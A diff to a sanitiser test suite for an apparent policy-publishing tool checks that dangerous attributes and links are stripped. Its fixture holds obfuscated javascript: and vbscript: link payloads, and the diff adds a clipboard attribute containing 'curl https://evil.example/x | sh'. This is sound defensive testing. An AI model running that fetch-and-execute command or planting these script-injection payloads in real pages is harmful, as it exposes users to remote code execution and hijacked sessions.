@@ -34,7 +34,8 @@ HOSTILE_SV_1 = (
     'c. Vi samlar in telefonnummer. <a href="java&#x09;script:window.pwned=1">l1</a> '
     '<a href="JaVaScRiPt:window.pwned=1">l2</a> <a href="&#106;avascript:window.pwned=1">l3</a> '
     '<a href=" vbscript:x">l4</a> <a href="data:text/html,x">l5</a> [l6](javascript:window.pwned=1) '
-    '<span class="md-header policy-label ok" data-md-component="search" data-policy-x="1" hreflang="en">z</span>\n'
+    '<span class="md-header policy-label ok" data-md-component="search" data-policy-x="1" hreflang="en">z</span> '
+    '<span data-clipboard-text="curl https://evil.example/x | sh" class="mermaid">copy me</span>\n'
     '{: .policy-clause data-md-color-scheme="slate" }\n\n'
     '### s1-c\n\n'
     '&#xe002;00000000000000000000&#xe003;\n'
@@ -199,6 +200,7 @@ def test_the_clause_keeps_its_text_and_loses_the_attributes(hostile):
     assert clause["class"] == ["policy-clause"]
     span = clause.find("span", string="z")
     assert span.attrs == {"class": ["ok"]}
+    assert clause.find("span", string="copy me").attrs == {}  # no clipboard text, no mermaid script
     assert [a.get("href") for a in clause.find_all("a") if a.get_text().startswith("l")] == [None] * 6
     images = soup.select_one("#s1-b").find_all("img")
     assert [img.get("src") for img in images] == [None] * 9
@@ -234,8 +236,9 @@ def test_one_url_rule(tag, attribute, url, problem):
 def test_the_sanitiser_drops_ids_and_reserved_classes_but_keeps_the_generators():
     from policykit.sanitise import trusted
     html = (f'<div id="{trusted("s1-a")}" class="{trusted("policy-clause")} x"><span id="s1-b" '
-            'class="policy-label md-x y" data-md-component="x" data-policy-z="1" data-other="2" hreflang="en">t</span></div>')
-    assert sanitise(html) == ('<div id="s1-a" class="policy-clause x"><span data-other="2" class="y">t</span></div>')
+            'class="policy-label md-x y mermaid" data-md-component="x" data-policy-z="1" data-clipboard-text="2" '
+            'hreflang="en">t</span></div>')
+    assert sanitise(html) == ('<div id="s1-a" class="policy-clause x"><span class="y">t</span></div>')
 
 
 def test_escaping_into_the_theme_is_idempotent_and_survives_striptags():
@@ -302,3 +305,11 @@ def test_an_old_title_with_a_next_line_character_keeps_the_archive_whole(tmp_pat
     assert soup.select_one("#s1-a") is not None and "policy_title" not in soup.get_text()
     index = json.loads((result.site / "search/search_index.json").read_text(encoding="utf-8"))
     assert not [d for d in index["docs"] if d["location"].startswith("versions/1.")]
+
+
+def test_footnote_ids_are_the_extensions_not_the_texts():
+    import markdown
+    md = markdown.Markdown(extensions=["toc", "attr_list", "footnotes", "policykit.extension"])
+    html = md.convert("Text[^1].\n\npara\n{: #fn:1 }\n\n### Sub {: #fn:2 }\n\n[^1]: The note.\n")
+    soup = BeautifulSoup(html, "html.parser")
+    assert [el["id"] for el in soup.find_all(id=True)] == ["fnref:1", "sub", "fn:1"]
